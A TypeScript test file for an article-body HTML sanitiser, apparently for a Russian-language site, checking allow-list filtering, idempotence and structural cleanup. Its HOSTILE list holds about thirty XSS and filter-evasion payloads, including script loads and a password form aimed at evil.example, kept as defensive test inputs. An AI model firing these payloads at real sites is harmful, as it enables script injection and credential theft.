import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type BodyNode, bodyTree } from '@/lib/articles/body.rules';
import { ALLOWED_HTML } from '@/lib/shared/allowed-html';
import { cleanArticleBody } from '@/lib/shared/clean-html';
import { textOfHtml } from '@/lib/shared/html-text';

const PICTURE = '/media/0189aaaa-0000-7000-8000-000000000000/960.jpg';

/** Shapes that sanitisers were fooled by: OWASP's filter evasion sheet, DOMPurify's and sanitize-html's advisories. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${PICTURE}" onerror="alert(1)" alt="">`,
  `<img src="${PICTURE}/../../x" alt="">`,
  '<svg onload=alert(1)><p>q</p></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><script>alert(1)</script>">',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<title><a href="</title><script>alert(1)</script>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" target=_blank>x</a>',
  '<p style="background:url(javascript:alert(1))" class="x" id="main">x</p>',
  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil><meta http-equiv=refresh content="0;url=//evil">',
  '</article></main></body></html><h1>Взломано</h1>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p><table><tr><td><form><p>x',
];

describe('an article body keeps only what the allow-list names', () => {
  test.each(HOSTILE)('nothing that runs, frames or restyles is left of %s', (html) => {
    const clean = cleanArticleBody(html);
    expect(clean).not.toMatch(
      /<(?:script|style|svg|math|iframe|object|form|input|base|link|meta|template|noscript)/i,
    );
    expect(clean).not.toMatch(/<[^>]*\s(?:on\w+|style|class|id|target|srcdoc)=/i);
    expect(clean).not.toMatch(/(?:href|src)="(?:\s*javascript:|data:|\/\/|\/\\)/i);
  });

  test.each(HOSTILE)('the tree that views walk has allowed tags and attributes alone: %s', (html) => {
    const all = bodyTree(cleanArticleBody(html)).flatMap(elementsOf);
    for (const { tag, attributes } of all) {
      const allowed: readonly string[] = ALLOWED_HTML[tag];
      expect(Object.keys(attributes).filter((name) => !allowed.includes(name))).toEqual([]);
    }
  });

  test.each(HOSTILE)('cleaning what is clean changes nothing: %s', (html) => {
    const clean = cleanArticleBody(html);
    expect(cleanArticleBody(clean)).toBe(clean);
  });

  test('cleaning random tag soup twice changes nothing and leaves no foreign tag', () => {
    const piece = fc.oneof(
      fc.constantFrom(...Object.keys(ALLOWED_HTML), 'div', 'script', 'form').map((tag) => `<${tag}>`),
      fc.constantFrom(...Object.keys(ALLOWED_HTML), 'div', 'script').map((tag) => `</${tag}>`),
      fc.constantFrom(`<img src="${PICTURE}" alt="а">`, '<a href="/news">', 'слово', ' ', '&amp;', '<', '"'),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const clean = cleanArticleBody(pieces.join(''));
        expect(cleanArticleBody(clean)).toBe(clean);
      }),
      { numRuns: 500 },
    );
  });

  test('what editors use stays to the letter', () => {
    const body = [
      '<h2>Кому положено</h2><p>Текст с <strong>важным</strong>, <em>словом</em>, H<sub>2</sub>O и <abbr title="единая">ЕДВ</abbr>.</p>',
      '<ul><li>один<ul><li>внутри</li></ul></li></ul><ol start="3"><li>три</li></ol>',
      '<blockquote><p>«Цитата»</p><p><cite>Анна Серова, директор</cite></p></blockquote>',
      '<table><caption>Суммы</caption><thead><tr><th scope="col">Кому</th><th scope="col">₽</th></tr></thead>',
      '<tbody><tr><th scope="row">Семья</th><td colspan="2">100</td></tr></tbody></table>',
      `<figure><img src="${PICTURE}" alt="Зал"><figcaption>Зал приёма</figcaption></figure>`,
      '<p><a href="tel:+70002001010">позвонить</a>, <a href="https://sfr.gov.ru">Соцфонд</a>, <a href="/news">новости</a></p>',
    ].join('');
    expect(cleanArticleBody(body)).toBe(body);
  });
});

describe('a body is put into the structure that HTML allows, without losing a word', () => {
  test.each([
    [
      'text between blocks becomes paragraphs',
      '<div>а</div><div>б <b>в</b></div>г',
      '<p>а</p><p>б <strong>в</strong></p><p>г</p>',
    ],
    ['a heading inside a paragraph ends it', '<p>а<h2>б</h2>в</p>', '<p>а</p><h2>б</h2><p>в</p>'],
    [
      'a lone picture becomes a figure',
      `<p><img src="${PICTURE}" alt="а"></p>`,
      `<figure><img src="${PICTURE}" alt="а"></figure>`,
    ],
    [
      'a stray text in a table becomes a cell',
      '<table><td>1</td>лишнее<tr><td>2</td></tr></table>',
      '<table><tr><td>1</td><td>лишнее</td></tr><tr><td>2</td></tr></table>',
    ],
    ['a list item without a list becomes a paragraph', '<li>а</li>', '<p>а</p>'],
    ['a first-level heading steps down: the title is the only one', '<h1>а</h1>', '<h2>а</h2>'],
    ['empty paragraphs go', '<p>а</p><p> </p><p>&nbsp;</p><p>б</p>', '<p>а</p><p>б</p>'],
  ])('%s', (_name, html, expected) => {
    expect(cleanArticleBody(html)).toBe(expected);
  });
});

test('the words of a body are parted where its blocks are', () => {
  expect(textOfHtml('<h2>Кому</h2><p>семье&nbsp;с <b>детьми</b></p><ul><li>раз</li><li>два</li></ul>')).toBe(
    'Кому\nсемье\u00a0с детьми\nраз\nдва',
  );
});

function elementsOf(node: BodyNode): Exclude<BodyNode, string>[] {
  return typeof node === 'string' ? [] : [node, ...node.children.flatMap(elementsOf)];
}
